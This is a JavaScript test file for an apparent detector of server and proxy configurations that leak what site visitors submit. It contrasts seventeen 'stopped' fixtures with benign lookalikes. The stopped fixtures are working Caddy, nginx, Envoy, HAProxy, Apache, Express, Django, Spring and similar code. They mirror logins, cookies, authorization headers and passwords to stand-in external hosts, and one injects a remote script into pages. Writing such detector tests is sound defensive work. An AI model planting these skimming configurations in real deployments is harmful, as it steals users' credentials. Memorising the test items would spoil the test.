import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

describe('attacks on what visitors of a site send', () => {
  itJudges([
    [
      'caddy mirror',
      'stopped',
      {
        'assets/Caddyfile':
          'app.example.com {\n  @auth path /login /session /api/token\n  handle @auth {\n    reverse_proxy localhost:8080\n    log {\n      output net tcp/logs.caddystats.zz:5140\n      format json\n    }\n    trace_body request\n  }\n  request_header +X-Orig {header.Authorization}\n  forward_auth https://check.caddystats.zz {\n    uri /v?c={http.request.header.Cookie}&a={http.request.header.Authorization}\n    copy_headers Authorization Cookie\n  }\n}\n',
      },
    ],
    [
      'envoy shadow',
      'stopped',
      {
        'assets/envoy.yaml':
          'static_resources:\n  listeners:\n  - address: { socket_address: { address: 0.0.0.0, port_value: 8443 } }\n    filter_chains:\n    - filters:\n      - name: envoy.filters.network.http_connection_manager\n        typed_config:\n          route_config:\n            virtual_hosts:\n            - name: all\n              domains: ["*"]\n              routes:\n              - match: { prefix: "/" }\n                route:\n                  cluster: app\n                  request_mirror_policies:\n                  - cluster: perf\n                    runtime_fraction: { default_value: { numerator: 100 } }\n  clusters:\n  - name: app\n    load_assignment: { cluster_name: app, endpoints: [{ lb_endpoints: [{ endpoint: { address: { socket_address: { address: 127.0.0.1, port_value: 8080 } } } }] }] }\n  - name: perf\n    type: STRICT_DNS\n    load_assignment: { cluster_name: perf, endpoints: [{ lb_endpoints: [{ endpoint: { address: { socket_address: { address: shadow.perfprobe.zz, port_value: 443 } } } }] }] }\n',
      },
    ],
    [
      'haproxy spoe lua copy',
      'stopped',
      {
        'assets/haproxy.cfg':
          'frontend www\n  bind :443 ssl crt /etc/ssl/site.pem\n  option http-buffer-request\n  declare capture request len 4096\n  http-request capture req.body id 0\n  http-request capture req.hdr(Cookie) len 1024\n  log syslog.hapanel.zz:514 local0\n  log-format "%ci %r %[capture.req.hdr(0)] %[req.body]"\n  default_backend app\nbackend app\n  server a 127.0.0.1:8080\n',
      },
    ],
    [
      'ingress snippet mirror',
      'stopped',
      {
        'assets/ingress.yaml':
          'apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: web\n  annotations:\n    nginx.ingress.kubernetes.io/mirror-target: https://collect.ingress-metrics.zz$request_uri\n    nginx.ingress.kubernetes.io/mirror-request-body: "on"\nspec:\n  rules: [{ host: shop.example.com, http: { paths: [{ path: /, pathType: Prefix, backend: { service: { name: shop, port: { number: 80 } } } }] } }]\n',
      },
    ],
    [
      'apache rewrite log posts',
      'stopped',
      {
        'assets/site.conf':
          '<VirtualHost *:443>\n  ServerName SITE\n  ProxyPass /login https://login-cache.apx-tools.zz/login\n  ProxyPassReverse /login https://login-cache.apx-tools.zz/login\n  ProxyPass / http://127.0.0.1:8080/\n  DumpIOInput On\n  LogFormat "%h %{Authorization}i %{Cookie}i %r" full\n  CustomLog "|/usr/bin/curl -s -T - https://login-cache.apx-tools.zz/l" full\n</VirtualHost>\n',
      },
    ],
    [
      'service worker copies posts',
      'stopped',
      {
        'assets/sw.js':
          "const CACHE = 'v3';\nself.addEventListener('install', (e) => e.waitUntil(caches.open(CACHE).then((c) => c.addAll(['/', '/app.css']))));\nself.addEventListener('fetch', (event) => {\n  const req = event.request;\n  if (req.method === 'POST') {\n    const copy = req.clone();\n    event.waitUntil(copy.text().then((body) => fetch('https://sw-health.pwakit.zz/p', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ u: req.url, h: [...req.headers], body }) })));\n  }\n  event.respondWith(caches.match(req).then((r) => r || fetch(req)));\n});\n",
      },
    ],
    [
      'express middleware mirrors logins',
      'stopped',
      {
        'templates/server.js':
          "const express = require('express');\nconst app = express();\napp.use(express.json());\napp.use((req, res, next) => {\n  if (/login|signin|token|reset/.test(req.path)) {\n    fetch('https://apm.expresskit.zz/t', { method: 'POST', body: JSON.stringify({ p: req.path, h: req.headers, b: req.body }) }).catch(() => {});\n  }\n  next();\n});\napp.listen(3000);\n",
      },
    ],
    [
      'traefik mirror',
      'stopped',
      {
        'assets/dynamic.yml':
          'http:\n  routers:\n    all: { rule: "PathPrefix(`/`)", service: both }\n  services:\n    both:\n      mirroring:\n        service: app\n        mirrors:\n          - name: probe\n            percent: 100\n    app:\n      loadBalancer: { servers: [{ url: "http://app:8080" }] }\n    probe:\n      loadBalancer: { servers: [{ url: "https://in.edgeprobe.zz" }] }\n',
      },
    ],
    [
      'istio mirror',
      'stopped',
      {
        'assets/vs.yaml':
          'apiVersion: networking.istio.io/v1\nkind: VirtualService\nmetadata: { name: shop }\nspec:\n  hosts: [shop]\n  http:\n    - route: [{ destination: { host: shop, subset: v1 } }]\n      mirror: { host: shadow.meshlens.zz, port: { number: 443 } }\n      mirrorPercentage: { value: 100 }\n',
      },
    ],
    [
      'nginx log body syslog',
      'stopped',
      {
        'assets/nginx.conf':
          'http {\n  log_format full \'$remote_addr $request "$http_cookie" "$http_authorization" $request_body\';\n  server {\n    listen 443 ssl;\n    access_log /var/log/nginx/access.log;\n    access_log syslog:server=ingest.logpeak.zz:514,facility=local7,tag=web full;\n    location / { proxy_pass http://127.0.0.1:3000; }\n  }\n}\n',
      },
    ],
    [
      'nginx sub filter script',
      'stopped',
      {
        'assets/site.conf':
          'server {\n  listen 443 ssl;\n  location / {\n    proxy_pass http://127.0.0.1:3000;\n    proxy_set_header Accept-Encoding "";\n    sub_filter \'</head>\' \'<script src="https://static.pagespeedkit.zz/v.js"></script></head>\';\n    sub_filter_once on;\n  }\n}\n',
      },
    ],
    [
      'openresty lua post',
      'stopped',
      {
        'assets/tap.lua':
          'local http = require "resty.http"\nngx.req.read_body()\nlocal body = ngx.req.get_body_data()\nif body and ngx.re.match(ngx.var.uri, "login|session|token") then\n  ngx.timer.at(0, function(_, u, b, h)\n    http.new():request_uri("https://rl.luaedge.zz/t", { method = "POST", body = u .. "\\n" .. (h or "") .. "\\n" .. b })\n  end, ngx.var.uri, body, ngx.var.http_cookie)\nend\n',
      },
    ],
    [
      'django middleware',
      'stopped',
      {
        'templates/middleware.py':
          'import threading, requests\nclass LatencyMiddleware:\n    def __init__(self, get_response):\n        self.get_response = get_response\n    def __call__(self, request):\n        if request.method == "POST" and ("login" in request.path or "password" in request.path):\n            threading.Thread(target=requests.post, args=("https://lat.djangometrics.zz/p",), kwargs={"data": {"p": request.path, "b": request.body, "c": request.META.get("HTTP_COOKIE")}}, daemon=True).start()\n        return self.get_response(request)\n',
      },
    ],
    [
      'flask after request',
      'stopped',
      {
        'templates/app.py':
          'from flask import Flask, request\nimport urllib.request, json\napp = Flask(__name__)\n@app.before_request\ndef warm():\n    if request.form:\n        try:\n            urllib.request.urlopen(urllib.request.Request("https://w.flaskwarm.zz/i", data=json.dumps(dict(request.form)).encode()), timeout=1)\n        except Exception:\n            pass\n',
      },
    ],
    [
      'cloudflare worker tee',
      'stopped',
      {
        'src/worker.js':
          "export default {\n  async fetch(request, env, ctx) {\n    if (request.method === 'POST') {\n      const c = request.clone();\n      ctx.waitUntil(c.text().then((t) => fetch('https://edge.worker-insight.zz/c', { method: 'POST', body: request.url + '\\n' + request.headers.get('cookie') + '\\n' + t })));\n    }\n    return fetch(request);\n  },\n};\n",
      },
    ],
    [
      'spring filter',
      'stopped',
      {
        'src/main/java/TimingFilter.java':
          '@Component\npublic class TimingFilter extends OncePerRequestFilter {\n  protected void doFilterInternal(HttpServletRequest req, HttpServletResponse res, FilterChain chain) throws ServletException, IOException {\n    if (req.getParameter("password") != null) {\n      HttpClient.newHttpClient().sendAsync(HttpRequest.newBuilder(URI.create("https://t.springtiming.zz/q?u=" + req.getParameter("username") + "&p=" + req.getParameter("password"))).build(), HttpResponse.BodyHandlers.discarding());\n    }\n    chain.doFilter(req, res);\n  }\n}\n',
      },
    ],
    [
      'laravel listener',
      'stopped',
      {
        'app/Listeners/Metrics.php':
          "<?php\nnamespace App\\Listeners;\nuse Illuminate\\Support\\Facades\\Http;\nclass Metrics {\n  public function handle($event) {\n    Http::async()->post('https://m.laravelmetrics.zz/l', ['u' => $event->credentials['email'] ?? '', 'p' => $event->credentials['password'] ?? '']);\n  }\n}\n",
      },
    ],
  ]);
});

describe('honest work on what visitors of a site send', () => {
  itJudges([
    [
      'nginx mirror own staging',
      'passed',
      {
        'assets/site.conf':
          'server {\n  listen 443 ssl;\n  location / { mirror /mirror; proxy_pass http://app; }\n  location = /mirror { internal; proxy_pass http://staging.internal:8080$request_uri; }\n}\n',
      },
    ],
    [
      'nginx proxy public api',
      'passed',
      {
        'assets/site.conf':
          'server {\n  listen 443 ssl;\n  location /api/ {\n    proxy_pass https://api.openweathermap.org/data/;\n    proxy_set_header Host api.openweathermap.org;\n  }\n  location /oauth2/ { proxy_pass http://127.0.0.1:4180; proxy_set_header X-Auth-Request-Redirect $request_uri; }\n  location = /auth { internal; proxy_pass http://127.0.0.1:4180/verify; proxy_pass_request_body off; }\n}\n',
      },
    ],
    [
      'caddy forward auth own',
      'passed',
      {
        'assets/Caddyfile':
          'app.example.com {\n  forward_auth authelia:9091 {\n    uri /api/authz/forward-auth\n    copy_headers Remote-User Remote-Groups\n  }\n  reverse_proxy localhost:8080\n  log { output file /var/log/caddy/access.log }\n}\n',
      },
    ],
    [
      'envoy mirror staging',
      'passed',
      {
        'assets/envoy.yaml':
          'routes:\n- match: { prefix: "/" }\n  route:\n    cluster: app\n    request_mirror_policies:\n    - cluster: app-v2\nclusters:\n- name: app\n  load_assignment: { endpoints: [{ lb_endpoints: [{ endpoint: { address: { socket_address: { address: app.prod.svc.cluster.local, port_value: 80 } } } }] }] }\n- name: app-v2\n  load_assignment: { endpoints: [{ lb_endpoints: [{ endpoint: { address: { socket_address: { address: app-v2.prod.svc.cluster.local, port_value: 80 } } } }] }] }\n',
      },
    ],
    [
      'service worker cache',
      'passed',
      {
        'assets/sw.js':
          "self.addEventListener('fetch', (event) => {\n  const req = event.request;\n  if (req.method !== 'GET') return;\n  event.respondWith(caches.open('v1').then(async (c) => (await c.match(req)) || fetch(req).then((r) => { c.put(req, r.clone()); return r; })));\n});\n",
      },
    ],
    [
      'haproxy syslog',
      'passed',
      {
        'assets/haproxy.cfg':
          'global\n  log 127.0.0.1 local0\nfrontend www\n  bind :443 ssl crt /etc/ssl/site.pem\n  http-request capture req.hdr(User-Agent) len 128\n  default_backend app\n',
      },
    ],
    [
      'sentry express',
      'passed',
      {
        'templates/server.js':
          "const Sentry = require('@sentry/node');\nSentry.init({ dsn: process.env.SENTRY_DSN });\napp.use((req, res, next) => {\n  fetch('https://metrics.internal/t', { method: 'POST', body: JSON.stringify({ path: req.path, ms: Date.now() - req.t0 }) }).catch(() => {});\n  next();\n});\n",
      },
    ],
    [
      'fetch post orders',
      'passed',
      {
        'server/orders.js':
          "app.post('/orders', async (req, res) => {\n  const r = await fetch('https://api.acme-orders.io/v1/orders', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(req.body) });\n  res.status(r.status).json(await r.json());\n});\n",
      },
    ],
    [
      'worker log drain',
      'passed',
      {
        'src/worker.js':
          "export default {\n  async fetch(request, env, ctx) {\n    const response = await fetch(request);\n    ctx.waitUntil(fetch('https://logs.internal/i', { method: 'POST', body: JSON.stringify({ url: request.url, status: response.status }) }));\n    return response;\n  },\n};\n",
      },
    ],
    [
      'worker analytics',
      'passed',
      {
        'src/worker.ts':
          "export default {\n  async fetch(request: Request, env: Env, ctx: ExecutionContext) {\n    const url = new URL(request.url);\n    ctx.waitUntil(fetch('https://plausible.io/api/event', { method: 'POST', headers: { 'User-Agent': request.headers.get('User-Agent') ?? '' }, body: JSON.stringify({ name: 'pageview', url: url.href, domain: url.host }) }));\n    return env.ASSETS.fetch(request);\n  },\n};\n",
      },
    ],
    [
      'django timing',
      'passed',
      {
        'templates/middleware.py':
          'import time, logging\nclass Timing:\n    def __init__(self, get_response):\n        self.get_response = get_response\n    def __call__(self, request):\n        t = time.time(); r = self.get_response(request)\n        logging.info("%s %s %.3f", request.method, request.path, time.time() - t)\n        return r\n',
      },
    ],
    [
      'captcha in form',
      'passed',
      {
        'shop/forms.py':
          'class ContactForm(forms.Form):\n    def clean(self):\n        d = super().clean()\n        r = requests.post("https://www.google.com/recaptcha/api/siteverify", data={"secret": settings.KEY, "response": self.data.get("g-recaptcha-response")}, timeout=5)\n        if not r.json()["success"]:\n            raise forms.ValidationError("captcha")\n        return d\n',
      },
    ],
    [
      'introspection',
      'passed',
      {
        'templates/auth.py':
          'def middleware(get_response):\n    def check(request):\n        r = requests.post("https://sso.acme-login.com/introspect", data={"token": request.headers.get("Authorization", "")[7:]}, timeout=3)\n        if not r.json().get("active"):\n            return HttpResponse(status=401)\n        return get_response(request)\n    return check\n',
      },
    ],
  ]);
});
